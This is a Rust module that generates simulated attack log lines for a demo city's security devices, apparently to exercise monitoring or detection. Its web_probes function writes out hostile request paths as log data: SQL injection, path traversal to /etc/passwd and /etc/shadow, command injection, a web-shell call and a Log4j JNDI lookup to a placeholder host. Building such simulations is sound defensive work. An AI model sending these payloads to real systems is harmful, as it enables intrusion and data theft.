//! Attacks on the demo city, at several stages, again and again: each from a fresh address of a documentation prefix, so
//! that nobody real is ever accused.

use std::time::Duration;

use rand::rngs::StdRng;
use rand::seq::IndexedRandom;
use rand::{Rng, SeedableRng};
use tokio::sync::watch;
use tokio_util::sync::CancellationToken;

use super::city::Kind;
use super::traffic::{Sender, now};

/// Seconds between two attacks after the opening.
const PAUSE_SECONDS: u64 = 40;

/// The city's devices, to be attacked.
pub struct Stage {
    /// Devices.
    pub senders: Vec<Sender>,
    /// Attackers at work now, newest last; the enforcement point's traffic comes from these.
    pub attackers: watch::Sender<Vec<String>>,
}

/// Attackers remembered for the enforcement point.
const ATTACKERS_MAX: usize = 32;

impl Stage {
    fn pick(&self, kind: Kind, rng: &mut StdRng) -> Option<&Sender> {
        let all: Vec<&Sender> = self.senders.iter().filter(|s| s.device.kind == kind).collect();
        if all.is_empty() { None } else { all.get(rng.random_range(0..all.len())).copied() }
    }
    fn attacker(&self, number: u32) -> String {
        let address = format!("198.51.100.{}", 10 + number % 240);
        self.attackers.send_modify(|all| {
            all.retain(|a| *a != address);
            all.push(address.clone());
            if all.len() > ATTACKERS_MAX {
                all.remove(0);
            }
        });
        address
    }
}

/// Letters of a tunnel's labels (RFC 4648, lower case).
const BASE32: &[u8] = b"abcdefghijklmnopqrstuvwxyz234567";
/// Number of different attacks.
const SCENES: u32 = 11;

/// Play until told to stop: the opening set at once, then one attack after another.
pub async fn play(stage: Stage, seed: u64, stop: CancellationToken) {
    let mut rng = StdRng::seed_from_u64(seed);
    let mut number = rng.random_range(0..200);
    for scene in 0..SCENES {
        scene_of(&stage, scene, number, &mut rng).await;
        number += 1;
        tokio::time::sleep(Duration::from_millis(150)).await;
    }
    loop {
        tokio::select! {
            () = stop.cancelled() => return,
            () = tokio::time::sleep(Duration::from_secs(PAUSE_SECONDS)) => {}
        }
        let scene = rng.random_range(0..SCENES);
        scene_of(&stage, scene, number, &mut rng).await;
        number += 1;
    }
}

async fn scene_of(stage: &Stage, scene: u32, number: u32, rng: &mut StdRng) {
    match scene {
        0 => guessing(stage, number, rng).await,
        1 => web_probes(stage, number, rng).await,
        2 => port_scan(stage, number, rng).await,
        3 => vpn_spraying(stage, number, rng).await,
        4 => ips_verdict(stage, number, rng).await,
        5 => malware(stage, rng).await,
        6 => dns_tunnel(stage, rng).await,
        7 => new_administrator(stage, rng).await,
        8 => bulk_data(stage, rng).await,
        9 => policy_changed(stage, rng).await,
        _ => guessed(stage, number, rng).await,
    }
}

async fn guessing(stage: &Stage, number: u32, rng: &mut StdRng) {
    let Some(sender) = stage.pick(Kind::Sshd, rng) else { return };
    let from = stage.attacker(number);
    for i in 0..24u32 {
        let user = ["root", "admin", "oracle", "postgres", "test", "ubuntu"].get(i as usize % 6).unwrap_or(&"root");
        let text = format!("Failed password for invalid user {user} from {from} port {} ssh2", 40_000 + i);
        let line = sender.device.sshd(&now(), &text, rng);
        sender.say(line).await;
    }
}

/// A guess that worked: the failures and then an accepted password.
async fn guessed(stage: &Stage, number: u32, rng: &mut StdRng) {
    let Some(sender) = stage.pick(Kind::Sshd, rng) else { return };
    let from = stage.attacker(number);
    for i in 0..14u32 {
        let line = sender.device.sshd(
            &now(),
            &format!("Failed password for park.jh from {from} port {} ssh2", 42_000 + i),
            rng,
        );
        sender.say(line).await;
    }
    let line = sender.device.sshd(&now(), &format!("Accepted password for park.jh from {from} port 42100 ssh2"), rng);
    sender.say(line).await;
}

async fn web_probes(stage: &Stage, number: u32, rng: &mut StdRng) {
    let Some(sender) = stage.pick(Kind::Nginx, rng) else { return };
    let from = stage.attacker(number);
    let paths = [
        "/minwon/list?id=1%27%20OR%20%271%27%3D%271",
        "/minwon/list?id=1%20UNION%20SELECT%20user,password%20FROM%20users--",
        "/../../../../etc/passwd",
        "/download?file=..%2f..%2f..%2fetc%2fshadow",
        "/cgi-bin/test.cgi?cmd=;cat%20/etc/passwd",
        "/.git/config",
        "/wp-login.php",
        "/upload/shell.jsp?cmd=whoami",
        "/search?q=${jndi:ldap://198.51.100.9/a}",
    ];
    for path in paths {
        let line = sender.device.nginx(&now(), &from, "GET", path, 404, 153, "sqlmap/1.8#stable (https://sqlmap.org)");
        sender.say(line).await;
    }
}

async fn port_scan(stage: &Stage, number: u32, rng: &mut StdRng) {
    let Some(sender) = stage.pick(Kind::Iptables, rng) else { return };
    let (from, to) = (stage.attacker(number), sender.device.public());
    for i in 0..60u16 {
        let line = sender.device.iptables(&now(), &from, &to, 20 + i * 17, "DROP", rng);
        sender.say(line).await;
    }
}

async fn vpn_spraying(stage: &Stage, number: u32, rng: &mut StdRng) {
    let from = stage.attacker(number);
    let firewalls: Vec<&Sender> = stage.senders.iter().filter(|s| s.device.kind == Kind::FortiGate).take(6).collect();
    for (i, user) in super::city::ACCOUNTS.iter().enumerate() {
        for sender in &firewalls {
            if (i + usize::from(sender.device.office)) % 2 == 0 {
                continue;
            }
            let rest = format!(
                "type=\"event\" subtype=\"vpn\" level=\"alert\" vd=\"root\" logdesc=\"SSL VPN login fail\" action=\"ssl-login-fail\" tunneltype=\"ssl-web\" tunnelid=0 remip={from} user=\"{user}\" group=\"N/A\" dst_host=\"N/A\" reason=\"sslvpn_login_permission_denied\" msg=\"SSL user failed to logged in\""
            );
            let line = sender.device.forti_event(&now(), "0101039426", &rest);
            sender.say(line).await;
        }
    }
    let _ = rng.random_range(0..2);
}

async fn ips_verdict(stage: &Stage, number: u32, rng: &mut StdRng) {
    let Some(sender) = stage.pick(Kind::Sniper, rng) else { return };
    let from = stage.attacker(number);
    let line = sender.device.sniper(
        &now(),
        "(5021)Apache Log4j RCE CVE-2021-44228",
        &from,
        &sender.device.public(),
        "tcp/443",
        "High",
        rng,
    );
    sender.say(line).await;
    let Some(sender) = stage.pick(Kind::TrusGuard, rng) else { return };
    let (public, what) = (sender.device.public(), "(2104)Web shell upload attempt");
    let line = sender.device.trusguard_ips(&now(), &from, &public, 443, what, rng);
    sender.say(line).await;
}

async fn malware(stage: &Stage, rng: &mut StdRng) {
    if let Some(sender) = stage.pick(Kind::PanOs, rng) {
        let inside = sender.device.inside(rng);
        let line = sender.device.panos_threat(
            &now(),
            "203.0.113.240",
            &inside,
            "Ransom/Win32.locker.example(600012345)",
            "critical",
            "alert",
            rng,
        );
        sender.say(line).await;
    }
    if let Some(sender) = stage.pick(Kind::Suricata, rng) {
        let inside = sender.device.inside(rng);
        let to = sender.device.inside(rng);
        let line = sender.device.suricata_alert(&now(), &inside, &to, "ET EXPLOIT Possible MS17-010 Echo Response", 1);
        sender.say(line).await;
    }
}

async fn dns_tunnel(stage: &Stage, rng: &mut StdRng) {
    let Some(sender) = stage.pick(Kind::Suricata, rng) else { return };
    let inside = sender.device.inside(rng);
    for _ in 0..70 {
        let label: String = (0..52).map(|_| BASE32.choose(rng).copied().map_or('a', char::from)).collect();
        let line = sender.device.suricata_dns(&now(), &inside, &format!("{label}.t.example.net"));
        sender.say(line).await;
    }
}

async fn new_administrator(stage: &Stage, rng: &mut StdRng) {
    let Some(sender) = stage.pick(Kind::Sshd, rng) else { return };
    let line = sender.device.program(
        &now(),
        "useradd",
        "new user: name=svc.backup, UID=1044, GID=1044, home=/home/svc.backup, shell=/bin/bash, from=/dev/pts/1",
        rng,
    );
    sender.say(line).await;
    let line = sender.device.program(&now(), "usermod", "add 'svc.backup' to group 'sudo'", rng);
    sender.say(line).await;
}

async fn bulk_data(stage: &Stage, rng: &mut StdRng) {
    let Some(sender) = stage.pick(Kind::FortiGate, rng) else { return };
    let inside = sender.device.inside(rng);
    let line =
        sender.device.forti_traffic(&now(), &inside, "203.0.113.200", 443, "close", 4_800_000_000, 9_000_000, rng);
    sender.say(line).await;
}

async fn policy_changed(stage: &Stage, rng: &mut StdRng) {
    if let Some(sender) = stage.pick(Kind::FortiGate, rng) {
        let rest = "type=\"event\" subtype=\"system\" level=\"information\" vd=\"root\" logdesc=\"Attribute configured\" user=\"fwadmin\" ui=\"GUI(203.0.113.61)\" action=\"Edit\" cfgtid=11 cfgpath=\"firewall.policy\" cfgobj=\"12\" cfgattr=\"srcaddr[all]dstaddr[all]action[accept]\" msg=\"Edit firewall.policy 12\"";
        let line = sender.device.forti_event(&now(), "0100044547", rest);
        sender.say(line).await;
    }
    if let Some(sender) = stage.pick(Kind::Mf2, rng) {
        let line = sender.device.mf2_audit(
            &now(),
            "fwadmin",
            "203.0.113.61",
            "Firewall Policy",
            "policy add any any allow",
            "Success",
        );
        sender.say(line).await;
    }
}
